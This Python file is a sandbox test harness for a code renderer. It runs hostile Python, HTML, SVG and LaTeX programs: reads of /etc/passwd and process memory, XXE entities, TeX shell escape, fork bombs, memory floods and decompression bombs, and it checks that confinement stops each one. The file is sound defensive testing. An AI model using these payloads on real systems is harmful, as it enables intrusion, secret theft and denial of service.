"""Hostile programs for render.py, and the judge that says whether each was stopped.

    python render.py --attack          # the table: with everything, without bubblewrap, and with nothing as a control

An attack counts as stopped only if all of this holds: a good program of the same language gives the same pixels before
and after it; its own outcome comes within the timeout + 1 s and is never 'infra'; its picture is not red (each paints
red where it succeeds); nothing reached the trap on the host's loopback, no file of the host changed or appeared, no
process is left, the machine's free memory fell by less than 5 GiB and its disk by less than 1 GiB.

Two controls show that it can fail. In each language a program that does what is allowed paints red. And the attacks
marked `tame` (they do no lasting harm) are run without any confinement too, where they must succeed; there are none in
SVG and LaTeX, whose engines refuse by themselves (cairosvg's safe mode, TeX's openin_any=p).
"""
import contextlib
import os
import shutil
import socket
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import numpy as np

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
import render  # noqa: E402
import sandbox  # noqa: E402

TIMEOUT = 3.0                           # seconds
SIZE = (64, 64)
GOOD = {
    "python": "import matplotlib.pyplot as plt\nplt.figure(figsize=(1, 1))\nplt.plot([1, 2])\nplt.savefig('a.png')",
    "html": "<body style='margin:0;background:#00f'>hello</body>",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><rect width="4" height="8" fill="#00f"/></svg>',
    "latex": "\\begin{tikzpicture}\\draw (0,0) circle (1);\\end{tikzpicture}",
    "smiles": "CCO",
}

# How each language tells that it succeeded: what is in these paints red, unless CODE fails first
PYTHON = """import os, sys, time, ctypes, subprocess, signal, gc
import numpy as np
import matplotlib.pyplot as plt
libc = ctypes.CDLL(None, use_errno=True)
def check(value):
    if not value: raise RuntimeError
try:
    CODE
    colour = 'red'
except BaseException:
    colour = 'blue'
plt.figure(figsize=(1, 1), facecolor=colour)
plt.savefig('probe.png')
"""
HTML = """<body style="margin:0;height:64px;background:blue"><script>const red = () => document.body.style.background = 'red';
const PORT = @PORT@;</script>CODE</body>"""
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 64">'
       '<rect width="64" height="64" fill="blue"/>CODE</svg>')
LATEX = ("\\documentclass[border=9pt]{standalone}\\usepackage{xcolor,graphicx,verbatim}\\begin{document}\\colorlet{c}{blue}"
         "CODE\\textcolor{c}{\\rule{4cm}{4cm}}\\end{document}")
OPENIN = "\\newread\\f\\openin\\f=%s \\ifeof\\f\\else\\colorlet{c}{red}\\fi"
FRAME = {"python": PYTHON, "html": HTML, "svg": SVG, "latex": LATEX}

# What is allowed does paint red: the judge can see a success
CAN_TURN_RED = {"python": "open('mine', 'w').write('x')", "html": "<script>red()</script>",
                "svg": '<rect width="64" height="64" fill="red"/>', "latex": OPENIN % "article.cls"}


@dataclass
class Attack:
    language: str
    group: str
    name: str
    code: str                           # "|| " between two programs: only the last is judged by its colour
    tame: bool = False                  # harmless enough to be run without confinement, where it must succeed
    bare: bool = False                  # the code is the whole program
    loud: bool = False                  # must leave a picture: it fails at once, and the program goes on


def table():
    """-> list of Attack."""
    attacks = []

    def group(language, name, tame="", loud="", bare="", end="", **codes):
        for kind, options in (("tame", tame), ("loud", loud), ("bare", bare)):
            assert set(options.split()) <= set(codes), f"{name}: unknown {kind}"
        for key, code in codes.items():
            attacks.append(Attack(language, name, key.replace("_", " "), code.strip() + end, key in tame.split(), key in bare.split(),
                                  key in loud.split() or key in tame.split() and language == "python"))

    group("python", "read", tame="host_file canary project home_listing tmp_listing process_list engine_descriptors targets_file",
          loud="environment environment_of_parent memory_of_parent",
          host_file="open('/etc/passwd').read()",
          canary="open('@CANARY@').read()",
          project="open('@ROOT@/data.py').read()",
          home_listing="check(os.listdir('@HOME@'))",
          tmp_listing="check(os.listdir('@FOLDER@'))",
          process_list="check([p for p in os.listdir('/proc') if p.isdigit()])",
          environment="check([v for v in os.environ.values() if 'VINCI-CANARY' in v])",
          environment_of_parent="open(f'/proc/{os.getppid()}/environ', 'rb').read()",
          memory_of_parent="open(f'/proc/{os.getppid()}/mem', 'rb')",
          engine_descriptors="check([1 for d in os.listdir('/proc/self/fd')])",
          targets_file="check([f for r, d, f in os.walk('@FOLDER@') if 'target.png' in f])")
    group("python", "write", tame="tmp", loud="packages engine_cache itself home device",
          tmp="open('@FOLDER@/written', 'w').write('x')",
          packages="open(np.__file__, 'a')",
          engine_cache="open(os.environ['MPLCONFIGDIR'] + '/x', 'w')",
          itself="open('@ROOT@/server.py', 'a')",
          home="open('@HOME@/.vinci-written', 'w')",
          device="open('/dev/mem', 'rb')")
    group("python", "network", tame="tcp udp socketpair", loud="abstract_socket raw_syscall",
          tcp="import socket; socket.create_connection(('127.0.0.1', @PORT@), 1)",
          udp="import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @PORT@))",
          abstract_socket="import socket; socket.socket(socket.AF_UNIX).connect('\\0@ABSTRACT@')",
          socketpair="import socket; socket.socketpair()",
          raw_syscall="check(libc.syscall(@SOCKET@, 2, 1, 0) >= 0)")
    group("python", "processes", tame="fork shell posix_spawn", loud="double_fork fork_bomb raw_clone clone3 exec",
          fork="os.fork() or os._exit(0)",
          double_fork="""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0: time.sleep(60)
        os._exit(0)""",
          fork_bomb="[os.fork() for _ in range(64)] and time.sleep(60)",
          shell="subprocess.run(['sh', '-c', 'true'], check=True)",
          posix_spawn="os.posix_spawn('/bin/true', ['true'], {})",
          raw_clone="check(libc.syscall(@CLONE@, 17, 0, 0, 0, 0) >= 0)",
          clone3="check(libc.syscall(435, ctypes.create_string_buffer(bytes(32) + b'\\x11' + bytes(55), 88), 88) >= 0)",
          exec="os.execv('/bin/sh', ['sh', '-c', 'sleep 60'])")
    group("python", "worker", loud="kill stop kill_all trace read_its_memory limits priority affinity signal_thread",
          kill="os.kill(os.getppid(), 9)",
          stop="os.kill(os.getppid(), signal.SIGSTOP)",
          kill_all="os.kill(-1, 9)",
          trace="check(libc.ptrace(16, os.getppid(), 0, 0) == 0)",
          read_its_memory="check(libc.process_vm_readv(os.getppid(), 0, 0, 0, 0, 0) == 0)",
          limits="import resource; resource.prlimit(os.getppid(), resource.RLIMIT_AS, (1 << 20, 1 << 20))",
          priority="os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)",
          affinity="os.sched_setaffinity(os.getppid(), {0})",
          signal_thread="check(libc.syscall(@TGKILL@, os.getppid(), os.getppid(), 9) == 0)")
    group("python", "kernel", loud="user_namespace mount chroot keyring io_uring bpf personality",
          user_namespace="check(libc.unshare(0x10000000) == 0)",
          mount="check(libc.mount(b'tmpfs', b'.', b'tmpfs', 0, None) == 0)",
          chroot="os.chroot('.')",
          keyring="check(libc.syscall(@KEYCTL@, 0, -3, 1) >= 0)",
          io_uring="check(libc.syscall(425, 1, ctypes.create_string_buffer(120)) >= 0)",
          bpf="check(libc.syscall(@BPF@, 0, ctypes.create_string_buffer(72), 72) >= 0)",
          personality="check(libc.personality(0x0040000) >= 0)")
    group("python", "floods",
          memory="""
    big = [bytearray(1 << 30) for _ in range(8)]""",
          memory_in_threads="""
    import threading
    def eat():
        held = []
        while True: held.append(bytearray(b'x' * (64 << 20)))
    for _ in range(8): threading.Thread(target=eat, daemon=True).start()
    time.sleep(60)""",
          one_file="""
    with open('big', 'wb') as f:
        for _ in range(1024): f.write(bytes(1 << 20))""",
          many_files="""
    for i in range(24):
        with open(f'big{i}', 'wb') as f:
            for _ in range(100): f.write(bytes(1 << 20))""",
          folders="""
    for i in range(3000):
        os.mkdir('d'); os.chdir('d')
    raise SystemExit""",
          locked_folders="""
    for i in range(1500):
        os.mkdir(f'd{i}'); open(f'd{i}/x', 'w').close(); os.chmod(f'd{i}', 0)
    raise SystemExit""",
          output="""
    for _ in range(1 << 14): os.write(1, bytes(1 << 16)); os.write(2, bytes(1 << 16))
    raise SystemExit""",
          warnings="[print('x' * 1000, file=sys.stderr) for _ in range(10 ** 7)]",
          descriptors="[open('/dev/null') for _ in range(10 ** 5)]")
    group("python", "endless", bare="at_exit",
          spin="""
    [signal.signal(n, signal.SIG_IGN) for n in range(1, 32) if n not in (9, 19)]
    while True: pass""",
          sleep="time.sleep(1000)",
          in_c="10 ** 10 ** 9",
          expression="import re; re.match('(a+)+b', 'a' * 50)",
          thread_that_stays="""
    import threading
    threading.Thread(target=lambda: time.sleep(1000)).start()
    raise SystemExit""",
          at_exit="import atexit, time, matplotlib.pyplot as plt\natexit.register(lambda: time.sleep(1000))\nplt.plot([1])\nplt.savefig('x.png')",
          recursion="""
    sys.setrecursionlimit(10 ** 9)
    def f(): return f() + 1
    f()""",
          crash="ctypes.string_at(0)",
          own_signal="os.kill(os.getpid(), 11)")
    find_map = """
    import mmap
    m, frame = None, sys._getframe()
    while frame:
        for v in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            v = getattr(v, 'memory', v)
            if isinstance(v, mmap.mmap): m = v
        frame = frame.f_back
    check(m)
    """
    forge = lambda texts, code: find_map + f"""
    import struct
    t = {texts}
    m[4096:4096 + 12] = bytes((255, 0, 0) * 4)
    m[4108:4108 + len(t)] = t
    m[:24] = struct.pack('6I', 1, 2, 2, 12, len(t), 0)
    os._exit({code})"""
    group("python", "harness", bare="symlink_result fifo_result result_bomb picture_of_10_gigapixels no_picture", loud="forged_reply others_pixels targets_pixels",
          forged_reply="""
    sent = 0
    for fd in range(3, 1024):
        try: sent += os.write(fd, b'{"answer": null, "seconds": 0}\\n')
        except OSError: pass
    check(sent)""",
          forged_size=find_map + """
    import struct
    m[:24] = struct.pack('6I', 1, 1 << 20, 1 << 20, 1 << 31, 1 << 31, 1 << 31)
    os._exit(0)""",
          forged_texts=forge("b'[[\"a\", [1' + b'0' * 400 + b', 0, 0, 0]]]'", 0) + "||" + forge("b'[' * 50000", 1),
          forged_figure="||".join(find_map + f"""
    import struct
    s = {figure}
    m[4096:4096 + len(s)] = s
    m[:24] = struct.pack('6I', 4, 0, 0, len(s), 0, 0)
    os._exit(0)""" for figure in ("b'\\xff'", """b'["{}</script><script>document.body.style.background=1", 1e9, 64, 1]'""")),
          others_pixels=find_map + "check(np.frombuffer(m, np.uint8)[:8 << 20].any())",
          targets_pixels="""
    frame = sys._getframe()
    while frame:
        check(not [k for k in frame.f_locals if 'target' in k or 'reference' in k]); frame = frame.f_back
    check([o for o in gc.get_objects() if isinstance(o, np.ndarray) and o.ndim == 3 and o.nbytes >= 3 * 64 * 64])""",
          symlink_result="import os\nos.symlink('@FOLDER@/target.png', 'x.png')",
          fifo_result="import os\nos.mkfifo('x.png')",
          result_bomb="""
import zlib, struct
chunk = lambda kind, data: struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
rows = zlib.compressobj(9)
data = b''.join([rows.compress(bytes(30001)) for _ in range(30000)]) + rows.flush()
open('x.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 30000, 30000, 8, 0, 0, 0, 0)) + chunk(b'IDAT', data) + chunk(b'IEND', b''))""",
          picture_of_10_gigapixels="import matplotlib.pyplot as plt\nplt.figure(figsize=(1000, 1000))\nplt.savefig('x.png')",
          no_picture="import os\nos._exit(0)",
          poisoned_modules="""
    for name in ('numpy', 'matplotlib', 'sitecustomize', 'render', 'PIL'): open(name + '.py', 'w').write('raise SystemExit')
    open('matplotlibrc', 'w').write('figure.facecolor: red')
    import matplotlib; matplotlib.rcParams['figure.facecolor'] = 'red'
    matplotlib.figure.Figure.savefig = None
    raise SystemExit""")

    group("html", "read",
          image_of_host="<img src='file://@FOLDER@/target.png' style='position:fixed;inset:0;width:100%;height:100%'>",
          fetch_file="<script>fetch('file:///etc/passwd').then(red)</script>",
          request_file="<script>const r = new XMLHttpRequest(); r.open('GET', 'file:///etc/passwd', false); r.send(); r.responseText && red()</script>",
          frame_of_host="<iframe src='file://@FOLDER@/target.png' style='position:fixed;inset:0;border:0'></iframe>",
          go_to_host="<script>location = 'file://@FOLDER@/target.png'</script>",
          refresh_to_host="<meta http-equiv=refresh content='0;url=file://@FOLDER@/target.png'>",
          name_of_window="<script>window.name = 'secret'</script>||<script>window.name === 'secret' && red()</script>",
          storage="<script>try { localStorage.k = 'secret' } catch (e) {} document.cookie = 'k=secret'</script>||"
                  "<script>try { localStorage.k && red() } catch (e) {} document.cookie && red()</script>",
          worker_of_last_page="<script>const c = new BroadcastChannel('c'); setInterval(() => c.postMessage(1), 1)</script>||"
                              "<script>new BroadcastChannel('c').onmessage = red</script>")
    stay = "<script>for (let i = 0; i < 5e8; i++) ;</script>"       # the page must live long enough for its requests to leave
    group("html", "network", tame="image fetch style frame beacon socket prefetch", end=stay,
          image="<img src='http://127.0.0.1:@PORT@/x'>",
          fetch="<script>fetch(`http://127.0.0.1:${PORT}/x`, {mode: 'no-cors'}).then(red)</script>",
          style="<style>@import url(http://127.0.0.1:@PORT@/x);</style>",
          frame="<iframe src='http://127.0.0.1:@PORT@/x'></iframe>",
          beacon="<script>navigator.sendBeacon(`http://127.0.0.1:${PORT}/x`, 'x')</script>",
          socket="<script>new WebSocket(`ws://127.0.0.1:${PORT}`).onopen = red</script>",
          peer="<script>const p = new RTCPeerConnection({iceServers: [{urls: `turn:127.0.0.1:${PORT}?transport=tcp`, username: 'a', credential: 'b'}]});"
               "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))</script>",
          prefetch="<link rel=preconnect href='http://127.0.0.1:@PORT@'><link rel=prefetch href='http://127.0.0.1:@PORT@/x'>")
    group("html", "floods",
          memory="<script>let a = []; while (true) a.push(new Array(1e6).fill(a.length))</script>",
          buffers="<script>let a = []; while (true) a.push(new Uint8Array(1 << 28).fill(1))</script>",
          canvases="<script>for (let i = 0; i < 200; i++) { const c = document.createElement('canvas'); c.width = c.height = 16000;"
                   "c.getContext('2d').fillRect(0, 0, 9, 9); document.body.append(c) }</script>",
          height="<div style='height:1000000px'></div>",
          nesting="<script>document.body.innerHTML = '<div>'.repeat(50000)</script>",
          use_bomb="<svg>" + "".join(f"<g id=a{i}><use href='#a{i + 1}'/><use href='#a{i + 1}'/></g>" for i in range(24)) + "<rect id=a24 width=9 height=9 /></svg>",
          download="<script>for (let i = 0; i < 50; i++) { const a = document.createElement('a'); a.download = 'written';"
                   "a.href = URL.createObjectURL(new Blob(['x'.repeat(1e6)])); a.click() }</script>",
          history="<script>for (let i = 0; i < 1e6; i++) history.pushState(null, '', '#' + i)</script>")
    group("html", "endless",
          spin="<script>while (true) {}</script>",
          spin_in_worker="<script>new Worker(URL.createObjectURL(new Blob(['while (true) {}'])))</script>",
          reload="<script>location.reload()</script>",
          refresh="<meta http-equiv=refresh content=0>",
          rewriting="<script>setInterval(() => { document.write('<p>x<script>setInterval(() => 1, 0)<\\/script>') }, 0)</script>",
          dialogs="<script>for (;;) alert(1)</script>",
          popups="<script>for (let i = 0; i < 500; i++) window.open('about:blank#' + i)</script>",
          unload="<script>onbeforeunload = () => 1; onunload = () => { for (;;) ; }</script>",
          debugger="<script>debugger; for (;;) debugger</script>",
          timers="<script>const f = () => { for (let i = 0; i < 1e5; i++) ; queueMicrotask(f) }; f()</script>",
          crash_page="<script>location = 'chrome://crash'; location = 'chrome://kill'; location = 'chrome://gpucrash'</script>",
          print="<script>print(); print()</script>")

    text = '<text y="20">%s</text>'
    document = '<!DOCTYPE svg [%s]>' + SVG
    group("svg", "read", bare="entity parameter_entity",
          image="<image width='64' height='64' href='file://@FOLDER@/target.png' xlink:href='file://@FOLDER@/target.png'/>",
          plain_path="<image width='64' height='64' href='@FOLDER@/target.png' xlink:href='@FOLDER@/target.png'/>",
          use_of_host="<use href='file://@FOLDER@/red.svg#red' xlink:href='file://@FOLDER@/red.svg#red'/>",
          style_of_host="<style>@import url(file://@FOLDER@/red.css);</style>",
          entity=document.replace("CODE", text % "&x;") % '<!ENTITY x SYSTEM "file:///etc/passwd">',
          parameter_entity=document.replace("CODE", text % "&x;") % '<!ENTITY % p SYSTEM "http://127.0.0.1:@PORT@/x"> %p;'.replace("%", "%%") .replace("%%", "%"),
          include="<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>")
    group("svg", "network",
          image="<image width='64' height='64' href='http://127.0.0.1:@PORT@/x' xlink:href='http://127.0.0.1:@PORT@/x'/>",
          style="<style>@import url(http://127.0.0.1:@PORT@/x);</style>",
          filter="<filter id='f'><feImage href='http://127.0.0.1:@PORT@/x'/></filter><rect width='9' height='9' filter='url(#f)'/>")
    entities = "".join(f'<!ENTITY a{i + 1} "{f"&a{i};" * 10}">' for i in range(9))
    group("svg", "bombs", bare="entities quadratic_entities canvas nesting",
          entities=document.replace("CODE", text % "&a9;") % ('<!ENTITY a0 "aaaaaaaaaa">' + entities),
          quadratic_entities=document.replace("CODE", text % ("&a;" * 10000)) % ('<!ENTITY a "' + "a" * 100000 + '">'),
          canvas='<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1000000" viewBox="0 0 1 1000000"/>',
          uses="<defs>" + "".join(f"<g id='a{i}'>" + f"<use href='#a{i + 1}' xlink:href='#a{i + 1}'/>" * 9 + "</g>" for i in range(9))
               + "<rect id='a9' width='9' height='9'/></defs><use href='#a0' xlink:href='#a0'/>",
          use_of_itself="<g id='a'><use href='#a' xlink:href='#a'/></g>",
          pattern="<pattern id='p' width='.001' height='.001' patternUnits='userSpaceOnUse'><rect width='1' height='1'/></pattern><rect width='64' height='64' fill='url(#p)'/>",
          nesting='<svg xmlns="http://www.w3.org/2000/svg">' + "<g>" * 100000 + "</g>" * 100000 + "</svg>",
          image_bomb="<image width='64' height='64' href='data:image/png;base64,@PNGBOMB@' xlink:href='data:image/png;base64,@PNGBOMB@'/>",
          dashes="<path d='M0 0L1e9 1e9' stroke='black' stroke-dasharray='.001 .001'/>")

    group("latex", "read", bare="embedded",
          host_file=OPENIN % "/etc/passwd",
          canary=OPENIN % "@CANARY@",
          parent_folders=OPENIN % ("../" * 12 + "etc/passwd"),
          environment=OPENIN % "/proc/self/environ",
          input="\\input{/etc/passwd}",
          verbatim="\\verbatiminput{@CANARY@}",
          image="\\includegraphics[width=9cm]{@FOLDER@/target.png}",
          dump="\\edef\\x{\\pdffilesize{@CANARY@}}\\ifx\\x\\empty\\else\\colorlet{c}{red}\\fi",
          embedded="\\documentclass{article}\\begin{document}\\pdfobj stream file {/etc/passwd}\\pdfrefobj\\pdflastobj x\\end{document}",
          job_of_last="\\newwrite\\w\\immediate\\openout\\w=left.tex\\immediate\\write\\w{x}\\immediate\\closeout\\w||" + OPENIN % "left.tex")
    group("latex", "write",
          shell="\\immediate\\write18{touch @FOLDER@/written}",
          pipe=OPENIN.replace("=%s ", '=|"echo x" '),
          absolute="\\newwrite\\w\\immediate\\openout\\w=@FOLDER@/written\\immediate\\write\\w{x}",
          parent="\\newwrite\\w\\immediate\\openout\\w=../../../../../../../..@FOLDER@/written\\immediate\\write\\w{x}",
          format_cache="\\newwrite\\w\\immediate\\openout\\w=/cache/base.fmt\\immediate\\write\\w{x}")
    group("latex", "floods", bare="formats",
          endless="\\def\\x{\\x}\\x",
          log="\\loop\\message{xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}\\iftrue\\repeat",
          files="\\newwrite\\w\\count1=0 \\loop\\immediate\\openout\\w=f\\the\\count1 \\immediate\\write\\w{x}\\advance\\count1 by 1 \\ifnum\\count1<100000\\repeat",
          pages="\\loop\\shipout\\hbox{\\rule{9cm}{9cm}}\\iftrue\\repeat",
          macro="\\def\\a{x}\\loop\\edef\\a{\\a\\a}\\iftrue\\repeat",
          page_size="\\setbox0=\\hbox{\\rule{500cm}{500cm}}\\box0 ",
          formats="\\documentclass{article}\\def\\x{\\x}\\AtBeginDocument{\\x}\\begin{document}x\\end{document}")
    return attacks


# ------------------------------------------------------------------------------------------------------------- judge

def is_red(image):
    """image: uint8 [H, W, 3] or None."""
    return image is not None and bool(((image[..., 0] > 200) & (image[..., 1] < 90) & (image[..., 2] < 90)).mean() > 0.25)


def descendants():
    """ids of all processes below this one."""
    children, found = {}, []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            parent = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
            children.setdefault(parent, []).append(int(pid))
    todo = [os.getpid()]
    while todo:
        new = children.get(todo.pop(), [])
        found, todo = found + new, todo + new
    return found


def free_memory():
    return int(Path("/proc/meminfo").read_text().split("MemAvailable:")[1].split()[0]) << 10


class Field:
    """The host as the attacks see it: canary files, a trap on a port, an abstract socket, a secret in the environment."""

    def __enter__(self):
        from PIL import Image
        self.folder = tempfile.TemporaryDirectory(prefix="vinci-attack-")
        path = self.path = Path(self.folder.name).resolve()
        (path / "canary").write_text("VINCI-CANARY")
        (path / "red.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><rect id="red" width="64" height="64" fill="red"/></svg>')
        (path / "red.css").write_text("rect { fill: red }")
        Image.new("RGB", (64, 64), "red").save(path / "target.png")
        os.environ["VINCI_SECRET"] = "VINCI-CANARY"
        self.hits, self.sockets = 0, [socket.socket(), socket.socket(socket.AF_UNIX), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)]
        self.sockets[0].bind(("127.0.0.1", 0))
        self.port = self.sockets[0].getsockname()[1]
        self.abstract = f"vinci-attack-{os.getpid()}-{id(self)}"
        self.sockets[1].bind("\0" + self.abstract)
        with contextlib.suppress(OSError):
            self.sockets[2].bind(("127.0.0.1", self.port))
        for trap in self.sockets[:2]:
            trap.listen(64)
            threading.Thread(target=self._listen, args=(trap,), daemon=True).start()
        self.before = self.state()
        return self

    def _listen(self, trap):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = trap.accept()
                self.hits += 1
                with contextlib.suppress(OSError):
                    connection.settimeout(0.2)
                    connection.recv(999)
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nAccess-Control-Allow-Origin: *\r\n\r\nok")
                connection.close()

    def __exit__(self, *_):
        for trap in self.sockets:
            with contextlib.suppress(OSError):
                trap.shutdown(socket.SHUT_RDWR)
            trap.close()
        os.environ.pop("VINCI_SECRET", None)
        self.folder.cleanup()

    def state(self):
        """What must not change: our files, those that an attack would write, the sources."""
        watched = [*self.path.rglob("*"), *map(Path, sandbox.INSIDE), Path(np.__file__), Path.home() / ".vinci-written", Path("/tmp/written")]
        return [(str(p), p.stat().st_mtime_ns, p.stat().st_size) for p in sorted(watched) if p.exists()]

    def fill(self, code):
        import base64
        import struct
        import zlib
        if "@PNGBOMB@" in code:
            def chunk(kind, data):
                return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
            pixels = zlib.compress(bytes(20000 * 2501), 9)
            bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 20000, 20000, 1, 0, 0, 0, 0)) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
            code = code.replace("@PNGBOMB@", base64.b64encode(bomb).decode())
        arm = os.uname().machine == "aarch64"
        numbers = {"SOCKET": (41, 198), "CLONE": (56, 220), "TGKILL": (234, 131), "KEYCTL": (250, 219), "BPF": (321, 280)}
        values = {"PORT": self.port, "ABSTRACT": self.abstract, "FOLDER": self.path, "CANARY": self.path / "canary",
                  "ROOT": Path(render.__file__).resolve().parent, "HOME": Path.home(), **{k: v[arm] for k, v in numbers.items()}}
        for name, value in values.items():
            code = code.replace(f"@{name}@", str(value))
        return code

    def programs(self, attack):
        frame = "CODE" if attack.bare else FRAME[attack.language]
        return [self.fill(frame.replace("CODE", code)) for code in attack.code.split("||")]

    def judge(self, renderer, attack):
        """Run it between two good programs. -> (what went wrong or "", the attack's status, seconds)."""
        good = (attack.language, GOOD[attack.language], SIZE)
        before = renderer.submit(*good).result()
        processes, memory, hits, wrong = len(descendants()), free_memory(), self.hits, []
        free_disk = lambda: shutil.disk_usage(tempfile.gettempdir()).free
        disk, least, done = free_disk(), [memory, free_disk()], threading.Event()

        def watch():
            while not done.wait(0.02):
                least[:] = min(least[0], free_memory()), min(least[1], free_disk())
        watcher = threading.Thread(target=watch)
        watcher.start()
        for program in self.programs(attack):
            start = time.monotonic()
            outcome = renderer.submit(attack.language, program, SIZE).result()
            seconds = time.monotonic() - start
            if seconds > renderer.timeout + 1:
                wrong.append(f"took {seconds:.1f} s")
            if outcome.status == "infra":
                wrong.append(f"infra: {outcome.message}")
        done.set()
        watcher.join()
        after = renderer.submit(*good).result()
        if before.status != "ok" or after.status != "ok" or not np.array_equal(before.image, after.image):
            wrong.append(f"the good program: {before.status} before, {after.status} after {after.message}")
        if is_red(outcome.image):
            wrong.append("red")
        if attack.loud and outcome.status != "ok":
            wrong.append(f"no picture: {outcome.status} {outcome.message}")
        if self.hits > hits:
            wrong.append("reached the trap")
        if (state := self.state()) != self.before:
            wrong.append("changed the host: " + " ".join(sorted({s[0] for s in set(state) ^ set(self.before)})))
            for path in ("written", ".vinci-written"):
                for folder in (self.path, Path.home(), Path("/tmp")):
                    (folder / path).unlink(missing_ok=True)
            self.before = self.state()
        patience = time.monotonic() + 2                 # the kernel may still be reaping what was killed
        while (left := len(descendants()) - processes) > (attack.language == "html") and time.monotonic() < patience:
            time.sleep(0.05)
        if left > (attack.language == "html"):          # a browser may hold one spare renderer more
            wrong.append(f"{left} processes left")
        if memory - least[0] > 5 << 30:
            wrong.append(f"took {(memory - least[0]) / 2**30:.1f} GiB")
        if disk - least[1] > 1 << 30:
            wrong.append(f"filled the disk by {(disk - least[1]) / 2**30:.1f} GiB")
        return ", ".join(wrong), outcome.status, seconds


@contextlib.contextmanager
def confined_by(parts):
    """sandbox.confinement() answers `parts` at most. Servers that already run keep theirs."""
    saved = os.environ.get("VINCI_CONFINEMENT")
    os.environ["VINCI_CONFINEMENT"] = parts
    sandbox.confinement.cache_clear()
    try:
        yield
    finally:
        os.environ.pop("VINCI_CONFINEMENT")
        if saved is not None:
            os.environ["VINCI_CONFINEMENT"] = saved
        sandbox.confinement.cache_clear()


COLUMNS = {"default": "bwrap+landlock+seccomp", "without bubblewrap": "landlock+seccomp", "nothing (control)": "none"}


def main(only=None, columns=COLUMNS):
    """Print the table; -> exit code, 1 if the default lets an attack through or a control fails."""
    absent = {language: why for language, why in render.available().items() if why}
    attacks = [a for a in table() if a.language not in absent and (not only or only in f"{a.language} {a.group} {a.name}")]
    results, failed = {}, 0
    for column, parts in columns.items():
        with confined_by(parts), Field() as field, render.Renderer(1, TIMEOUT, unsafe=True) as renderer:
            print(f"\n{column}: confined by {renderer.confinement}", flush=True)
            for language in sorted({a.language for a in attacks}):
                red = renderer.submit(language, field.fill(FRAME[language].replace("CODE", CAN_TURN_RED[language])), SIZE).result()
                if not is_red(red.image):
                    failed += 1
                    print(f"  control: {language} cannot turn red: {red.status} {red.message}")
            for attack in attacks:
                if parts == "none" and not attack.tame:
                    continue
                for _ in range(3 if parts == "none" else 1):       # a page's request may leave after it was drawn
                    wrong, status, seconds = field.judge(renderer, attack)
                    if wrong:
                        break
                results[attack.language, attack.group, attack.name, column] = wrong
                if parts == "none":
                    failed += not wrong
                    verdict = "succeeds, as it must" if wrong else "FAILS: this attack proves nothing"
                else:
                    failed += bool(wrong) and column == "default"
                    verdict = f"NOT STOPPED ({wrong})" if wrong else "stopped"
                print(f"  {attack.language:7} {attack.group:10} {attack.name:26} {status:9} {seconds:5.2f} s  {verdict}", flush=True)
    print("\n| attacks | " + " | ".join(columns) + " |\n|---|" + "---|" * len(columns))
    for language, group in dict.fromkeys((a.language, a.group) for a in attacks):
        mine = [a for a in attacks if (a.language, a.group) == (language, group)]
        cells = []
        for column in columns:
            verdicts = {a.name: results[language, group, a.name, column] for a in mine if (language, group, a.name, column) in results}
            through = [name for name, wrong in verdicts.items() if wrong]
            if columns[column] == "none":
                cells.append(f"{len(through)} of {len(verdicts)} succeed" if verdicts else "not run")
            else:
                cells.append(f"{len(verdicts) - len(through)} of {len(verdicts)} stopped" + (f"; not: {', '.join(through)}" if through else ""))
        print(f"| {language}, {group}: {', '.join(a.name for a in mine)} | " + " | ".join(cells) + " |")
    for language, why in absent.items():
        print(f"{language} was not attacked: {why}")
    return int(failed > 0)


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:2]))
